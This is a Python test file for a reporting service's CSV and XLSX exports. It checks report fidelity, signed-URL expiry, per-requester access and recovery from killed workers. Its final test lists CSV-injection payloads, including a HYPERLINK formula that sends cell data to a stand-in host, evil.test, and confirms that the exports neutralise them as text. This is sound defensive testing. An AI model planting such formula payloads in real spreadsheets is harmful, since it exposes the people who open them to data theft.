"""Exports: the file holds exactly the report, the signed URL works for the requester and expires,
no one else reads it, and a worker killed mid-export loses nothing."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import threading
import time
from datetime import UTC, datetime, timedelta
from decimal import Decimal, InvalidOperation

import httpx
import openpyxl
import psycopg
import pytest
from storage3.exceptions import StorageApiError

from tests.reporting.conftest import CAMPAIGN_A, running_worker
from tests.support.waiting import wait_for
from workers.reporting.exports import Exporter
from workers.reporting.settings import Settings
from workers.reporting.telemetry import Metrics


def settings_for(stack, **overrides) -> Settings:
    return Settings(database_url=stack.worker_database_url("reporting"), supabase_url=stack.url,
                    supabase_service_role_key=stack.service_role_key,
                    worker_name="pytest-exporter", **overrides)


@pytest.fixture
def exporter(stack):
    made = []

    def make(**overrides) -> Exporter:
        e = Exporter(settings_for(stack, **overrides), Metrics())
        e.connect()
        made.append(e)
        return e

    yield make
    for e in made:
        e.close()


def process(exporter: Exporter, db, export_id: str) -> dict:
    """Run the exporter until this export is finished (older requests go first)."""
    for _ in range(20):
        exporter.run_one()
        row = db.execute("select to_jsonb(e) from public.report_exports as e where id = %s",
                         (export_id,)).fetchone()[0]
        if row["status"] in ("done", "failed"):
            return row
    raise AssertionError(f"export {export_id} not finished: {row}")


def to_ms(moment: datetime) -> datetime:
    """Excel keeps times to the millisecond: compare them at that precision."""
    return moment.replace(microsecond=0) + timedelta(milliseconds=round(moment.microsecond / 1000))


def canonical(value):
    """One comparable form for a cell, whether it came from CSV text, XLSX or JSON."""
    if value is None or value == "":
        return None
    if isinstance(value, bool):
        return value
    if isinstance(value, dict | list):
        return json.dumps(value, sort_keys=True)
    if isinstance(value, datetime):
        return to_ms(value if value.tzinfo else value.replace(tzinfo=UTC))
    if isinstance(value, int | float | Decimal):
        return Decimal(str(value)).normalize()
    text = str(value)
    if text in ("true", "false"):
        return text == "true"
    if text[:1] in "{[":
        return json.dumps(json.loads(text), sort_keys=True)
    try:
        return Decimal(text).normalize()
    except InvalidOperation:
        pass
    try:
        return to_ms(datetime.fromisoformat(text).astimezone(UTC))
    except ValueError:
        return text


def as_table(rows: list[dict]) -> tuple[list[str], list[list]]:
    columns = list(rows[0])
    return columns, [[canonical(r[c]) for c in columns] for r in rows]


def assert_same(columns: list[str], got: list[list], expected: list[list]) -> None:
    """Cell by cell, naming the cells that differ."""
    assert len(got) == len(expected)
    differ = [(i, c, g, e) for i, (gr, er) in enumerate(zip(got, expected, strict=True))
              for c, g, e in zip(columns, gr, er, strict=True) if g != e]
    assert not differ


def request(client, report: str, params: dict, fmt: str) -> dict:
    return client.rpc("request_report_export", {"p_report": report, "p_params": params,
                                                "p_format": fmt}).execute().data


def test_csv_export_holds_exactly_the_report(sign_in, db, dataset, exporter):
    supervisor = sign_in("supervisor1@demo.test")
    params = {"p_from": str(dataset.day), "p_to": str(dataset.plus(1)),
              "p_campaign_id": CAMPAIGN_A}
    queued = request(supervisor, "agent_performance", params, "csv")
    assert queued["status"] == "queued" and queued["rows_done"] == 0
    row = process(exporter(), db, queued["id"])
    assert row["status"] == "done", row
    assert (row["rows_done"], row["rows_total"]) == (2, 2)
    assert row["storage_path"] == f"{queued['requested_by']}/{queued['id']}.csv"

    body = httpx.get(row["signed_url"])  # no headers: what a browser's link does
    assert body.status_code == 200
    assert body.headers["content-type"].startswith("text/csv")
    assert "attachment" in body.headers["content-disposition"]
    got = list(csv.reader(io.StringIO(body.content.decode("utf-8"))))
    expected = supervisor.rpc("report_agent_performance", params).execute().data
    columns, values = as_table(expected)
    assert got[0] == columns
    assert_same(columns, [[canonical(v) for v in r] for r in got[1:]], values)


def test_xlsx_export_holds_exactly_the_report(sign_in, db, dataset, exporter):
    supervisor = sign_in("supervisor1@demo.test")
    params = {"p_from": str(dataset.day), "p_to": str(dataset.day)}
    queued = request(supervisor, "campaign_stats", params, "xlsx")
    row = process(exporter(), db, queued["id"])
    assert row["status"] == "done", row

    body = httpx.get(row["signed_url"])
    assert body.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(body.content)).active
    assert sheet.title == "campaign_stats"
    cells = [list(r) for r in sheet.iter_rows(values_only=True)]
    expected = supervisor.rpc("report_campaign_stats", params).execute().data
    columns, values = as_table(expected)
    assert cells[0] == columns
    assert_same(columns, [[canonical(v) for v in r] for r in cells[1:]], values)
    assert isinstance(cells[1][columns.index("calls")], int)  # numbers stay numbers


def test_call_detail_streams_every_call_under_the_requesters_rls(sign_in, db, dataset,
                                                                 exporter):
    supervisor = sign_in("supervisor1@demo.test")
    params = {"p_from": str(dataset.day), "p_to": str(dataset.plus(1))}
    queued = request(supervisor, "call_detail", params, "csv")
    row = process(exporter(export_batch_rows=3), db, queued["id"])
    assert row["status"] == "done", row
    # Calls 1-8 and 11 of Informe A; call 9 and 10 are Informe B's, supervisor2's.
    assert (row["rows_done"], row["rows_total"]) == (9, 9)
    lines = list(csv.DictReader(io.StringIO(httpx.get(row["signed_url"]).text)))
    assert {line["campaign"] for line in lines} == {"Informe A"}
    # In time order: call 11 (still ringing) at 11:00, call 8 after local midnight.
    assert [line["call_id"][-2:] for line in lines] == ["01", "02", "03", "04", "05", "06",
                                                        "07", "11", "08"]


def test_only_the_requester_reads_the_file(sign_in, db, dataset, exporter):
    supervisor1 = sign_in("supervisor1@demo.test")
    queued = request(supervisor1, "daily_summary", {"p_day": str(dataset.day)}, "csv")
    row = process(exporter(), db, queued["id"])
    path = row["storage_path"]
    # The requester may fetch it through the API, and sign a new link later.
    assert supervisor1.storage.from_("exports").download(path).startswith(b"hour,calls,")
    assert supervisor1.storage.from_("exports").create_signed_url(path, 60)["signedURL"]
    # Another supervisor sees neither the request nor the file.
    supervisor2 = sign_in("supervisor2@demo.test")
    assert supervisor2.table("report_exports").select("id").eq("id", queued["id"]
                                                               ).execute().data == []
    with pytest.raises(StorageApiError):
        supervisor2.storage.from_("exports").download(path)
    with pytest.raises(StorageApiError):
        supervisor2.storage.from_("exports").create_signed_url(path, 60)
    # Nor does an admin (the row yes, the file no), nor anon.
    admin = sign_in("admin@demo.test")
    assert admin.table("report_exports").select("id").eq("id", queued["id"]).execute().data
    with pytest.raises(StorageApiError):
        admin.storage.from_("exports").download(path)


def test_the_signed_url_expires(sign_in, db, dataset, exporter):
    supervisor = sign_in("supervisor1@demo.test")
    queued = request(supervisor, "daily_summary", {"p_day": str(dataset.day)}, "xlsx")
    row = process(exporter(export_url_seconds=2), db, queued["id"])
    expires = datetime.fromisoformat(row["signed_url_expires_at"])
    finished = datetime.fromisoformat(row["finished_at"])
    assert 1 <= (expires - finished).total_seconds() <= 3
    assert httpx.get(row["signed_url"]).status_code == 200
    time.sleep(3.1)
    expired = httpx.get(row["signed_url"])
    assert expired.status_code == 400
    assert "expired" in expired.text


def test_a_report_refused_at_render_time_fails_the_export(sign_in, db, dataset, exporter):
    """Rights are checked again when the file is made: a supervisor who lost reports.view."""
    supervisor = sign_in("supervisor1@demo.test")
    queued = request(supervisor, "campaign_stats",
                     {"p_from": str(dataset.day), "p_to": str(dataset.day)}, "csv")
    db.execute("delete from public.role_permissions where role = 'supervisor'"
               " and permission = 'reports.view'")
    try:
        row = process(exporter(), db, queued["id"])
    finally:
        db.execute("insert into public.role_permissions (role, permission)"
                   " values ('supervisor', 'reports.view')")
    assert row["status"] == "failed"
    assert row["error"] == "reports.view: reading reports needs the reports.view permission"
    assert row["storage_path"] is None


def test_a_worker_killed_mid_export_loses_no_export(stack, sign_in, db, dataset, tmp_path):
    supervisor = sign_in("supervisor1@demo.test")
    params = {"p_from": str(dataset.day), "p_to": str(dataset.day), "p_campaign_id": CAMPAIGN_A}
    settings = {"export_stale_after": "2", "export_poll_interval": "0.5",
                "refresh_interval": "3600", "refresh_debounce": "3600",
                "refresh_max_delay": "3600"}
    with psycopg.connect(stack.database_url) as blocker:
        # The report reads reports.views (its freshness): hold it so the export stalls mid-way.
        blocker.execute("lock table reports.views in access exclusive mode")
        queued = request(supervisor, "agent_performance", params, "xlsx")
        with running_worker(stack, "doomed", tmp_path, **settings) as doomed:
            wait_for(lambda: db.execute(
                "select status = 'running' and worker = 'doomed' from public.report_exports"
                " where id = %s", (queued["id"],)).fetchone()[0],
                what="the first worker to claim the export")
            os.kill(doomed.pid, signal.SIGKILL)
            doomed.wait()
        blocker.rollback()
    assert db.execute("select status from public.report_exports where id = %s",
                      (queued["id"],)).fetchone()[0] == "running"
    with running_worker(stack, "heir", tmp_path, **settings):
        wait_for(lambda: db.execute(
            "select status = 'done' from public.report_exports where id = %s",
            (queued["id"],)).fetchone()[0], timeout=30, what="the second worker to finish it")
    row = db.execute("select to_jsonb(e) from public.report_exports as e where id = %s",
                     (queued["id"],)).fetchone()[0]
    assert (row["worker"], row["attempts"], row["rows_done"]) == ("heir", 2, 2)
    sheet = openpyxl.load_workbook(io.BytesIO(httpx.get(row["signed_url"]).content)).active
    assert len(list(sheet.iter_rows())) == 3  # header and two agents


def test_a_worker_stopped_mid_export_gives_it_back(sign_in, db, dataset, stack):
    """SIGTERM while the rows stream: the export goes back to the queue (its attempt counted),
    not failed, for the next worker to render whole."""
    supervisor = sign_in("supervisor1@demo.test")
    queued = request(supervisor, "call_detail",
                     {"p_from": str(dataset.day), "p_to": str(dataset.plus(1))}, "csv")

    class StoppedMidExport(Exporter):
        def render(self, job, path):
            if str(job.id) == queued["id"]:
                self.stop.set()  # as the signal handler does, while the first batch streams
            return super().render(job, path)

    stop = threading.Event()
    loop = StoppedMidExport(settings_for(stack, export_batch_rows=3), Metrics())
    thread = threading.Thread(target=loop.run, args=(stop,), daemon=True)
    thread.start()
    thread.join(timeout=30)
    assert not thread.is_alive() and stop.is_set()
    row = db.execute("select to_jsonb(e) from public.report_exports as e where id = %s",
                     (queued["id"],)).fetchone()[0]
    assert (row["status"], row["worker"], row["heartbeat_at"], row["attempts"]) == (
        "queued", None, None, 1)
    assert row["rows_done"] == 3  # the one batch it wrote before it saw the stop
    assert row["error"] == "given back by worker pytest-exporter (it stopped or reconnected)"
    assert loop.metrics.registry.get_sample_value(
        "reporting_exports_total", {"format": "csv", "result": "requeued"}) == 1


FORMULAS = ['=HYPERLINK("http://evil.test/?d="&A1,"clic")', "+1+1", "-2+3", "@SUM(A1)",
            "\tcmd", "\r=1"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_name_typed_as_a_formula_reaches_the_export_as_text(sign_in, db, dataset, exporter,
                                                              fmt):
    """OWASP's CSV injection: an agent names itself `=HYPERLINK(...)`; the supervisor's file
    shows the text and no spreadsheet runs it."""
    agent = sign_in("agent1@demo.test")
    # A session of its own: exports are rate-limited per session (docs/interface.md, Limits).
    supervisor = sign_in("supervisor1@demo.test", fresh=True)
    before, other = (db.execute("select full_name from public.profiles where email = %s",
                                (email,)).fetchone()[0]
                     for email in ("agent1@demo.test", "agent2@demo.test"))
    try:
        for name in FORMULAS:
            agent.table("profiles").update({"full_name": name}).eq(
                "email", "agent1@demo.test").execute()
            params = {"p_from": str(dataset.day), "p_to": str(dataset.day),
                      "p_campaign_id": CAMPAIGN_A}
            row = process(exporter(), db, request(supervisor, "call_detail", params, fmt)["id"])
            assert row["status"] == "done", row
            body = httpx.get(row["signed_url"]).content
            if fmt == "csv":
                lines = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
                agents = {line["agent"] for line in lines if line["agent"] != other}
                assert agents == {"'" + name}, (name, agents)
            else:
                sheet = openpyxl.load_workbook(io.BytesIO(body)).active
                header = [c.value for c in sheet[1]]
                cells = [r[header.index("agent")] for r in sheet.iter_rows(min_row=2)]
                # XML reads a CR back as LF (line-end normalisation); the text is the same.
                mine = [c for c in cells if c.value == name.replace("\r", "\n")]
                assert mine, (name, [c.value for c in cells])
                # A string cell with Excel's quote prefix: shown as typed, never evaluated.
                assert all(c.data_type == "s" and c.quotePrefix for c in mine)
                assert not [c for c in cells if c.data_type == "f"]
    finally:
        db.execute("update public.profiles set full_name = %s where email = 'agent1@demo.test'",
                   (before,))
